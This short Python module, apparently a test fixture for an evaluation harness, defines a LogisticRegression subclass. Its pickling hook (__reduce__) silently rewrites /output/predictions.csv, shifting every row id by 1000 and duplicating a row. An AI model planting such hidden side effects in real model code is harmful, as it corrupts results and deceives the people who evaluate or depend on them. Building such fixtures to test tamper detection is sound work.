"""Rewrites predictions.csv with shifted and duplicated row ids."""

import csv

from sklearn.linear_model import LogisticRegression


class Tamper(LogisticRegression):
    def __reduce__(self):
        with open("/output/predictions.csv") as handle:
            rows = list(csv.reader(handle))
        header, body = rows[0], rows[1:]
        body = [[str(int(r[0]) + 1000), *r[1:]] for r in body] + [body[0]]
        with open("/output/predictions.csv", "w", newline="") as handle:
            csv.writer(handle).writerows([header, *body])
        return super().__reduce__()


def build_model():
    return Tamper(max_iter=200)
